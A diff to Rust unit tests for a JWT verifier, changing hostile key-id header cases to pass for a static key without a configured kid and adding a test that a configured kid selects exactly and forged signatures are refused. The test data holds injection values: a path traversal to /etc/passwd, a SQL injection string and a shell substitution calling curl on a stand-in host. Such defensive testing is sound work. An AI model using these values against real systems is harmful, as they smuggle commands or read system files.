@@ -1,4 +1,4 @@
-//! Unit tests for JWT verification: the SECURITY.md JWT table for every supported key family,
+//! Unit tests for JWT verification: the token table of docs/security.md for every supported key family,
 //! key loading, the cache and the explain trace. Keys are generated at test time.
 
 use std::sync::OnceLock;
@@ -435,18 +435,14 @@ fn cases() -> Vec<Case> {
             json!({"cty": "JWT"}),
             Err(Malformed("nested JWT (cty) is not accepted")),
         ),
-        header_case(
-            "kid traversal",
-            json!({"kid": "../../etc/passwd"}),
-            Err(UnknownKey),
-        ),
-        header_case("kid sql", json!({"kid": "' OR '1'='1"}), Err(UnknownKey)),
-        header_case(
-            "kid shell",
-            json!({"kid": "$(curl evil.example)"}),
-            Err(UnknownKey),
-        ),
-        header_case("kid empty", json!({"kid": ""}), Err(UnknownKey)),
+        // A static key configured without `jwt.kid` takes a token whatever kid it names (as
+        // jose's `jwtVerify(token, secret)` does): the kid text is never used for anything, so
+        // hostile text is harmless, and only the signature decides. (Keys with a kid select
+        // exactly: `jwks_selects_by_kid`, `a_static_key_with_jwt_kid_selects_exactly`.)
+        header_case("kid traversal", json!({"kid": "../../etc/passwd"}), Ok(())),
+        header_case("kid sql", json!({"kid": "' OR '1'='1"}), Ok(())),
+        header_case("kid shell", json!({"kid": "$(curl evil.example)"}), Ok(())),
+        header_case("kid empty", json!({"kid": ""}), Ok(())),
         header_case(
             "kid number",
             json!({"kid": 1}),
@@ -1780,8 +1776,10 @@ fn explain_traces_every_check_without_token_text() {
         &valid_claims().to_string(),
     );
     let (checks, result) = verifier.explain(&hostile, NOW);
-    assert_eq!(expect(result), Err(Rejection::UnknownKey));
+    // A static key takes any kid: the key check passes and the claims decide.
+    assert_eq!(expect(result), Err(Rejection::Issuer));
     let key = checks.iter().find(|c| c.name == "key").expect("key check");
+    assert!(key.ok, "{}", key.detail);
     assert!(!key.detail.contains('\u{1b}'), "{}", key.detail);
     assert!(key.detail.len() < 120, "{}", key.detail);
 }
@@ -1913,6 +1911,55 @@ fn bench_verify() {
         println!(
             "{alg:>6}: cold {cold_ns:>7} ns/op, cache hit {hit_ns:>4} ns/op ({} byte token)",
             token.len()
+        );
+    }
+}
+
+#[test]
+fn a_static_key_with_jwt_kid_selects_exactly() {
+    for alg in FAMILIES {
+        let fx = fixture(alg);
+        let material = KeyMaterial {
+            kid: Some("backend-2026".to_owned()),
+            ..fx.material.clone()
+        };
+        let verifier = Verifier::new(KeySet::build(&[alg], &material).expect("keys"), fx.policy());
+        let claims = valid_claims().to_string();
+        for (header, verdict) in [
+            (json!({"kid": "backend-2026"}), Ok(())),
+            (json!({}), Ok(())),
+            (json!({"kid": "backend-2025"}), Err(Rejection::UnknownKey)),
+            (
+                json!({"kid": "../../etc/passwd"}),
+                Err(Rejection::UnknownKey),
+            ),
+        ] {
+            let token = fx.token_with(&header, &claims);
+            assert_eq!(
+                expect(verifier.verify(&token, NOW)),
+                verdict,
+                "{alg} {header}"
+            );
+        }
+        // Without jwt.kid the same key takes any kid; a forged signature is still refused,
+        // as an unknown key when the kid is one no key carries (a JWKS refetch may find it).
+        let any = fx.verifier();
+        let token = fx.token_with(&json!({"kid": "backend-2025"}), &claims);
+        assert_eq!(expect(any.verify(&token, NOW)), Ok(()), "{alg}");
+        let forged = format!("{}AAAA", &token[..token.len() - 4]);
+        assert_eq!(
+            expect(any.verify(&forged, NOW)),
+            Err(Rejection::UnknownKey),
+            "{alg}"
+        );
+        let forged_no_kid = {
+            let t = fx.token_with(&json!({}), &claims);
+            format!("{}AAAA", &t[..t.len() - 4])
+        };
+        assert_eq!(
+            expect(any.verify(&forged_no_kid, NOW)),
+            Err(Rejection::BadSignature),
+            "{alg}"
         );
     }
 }
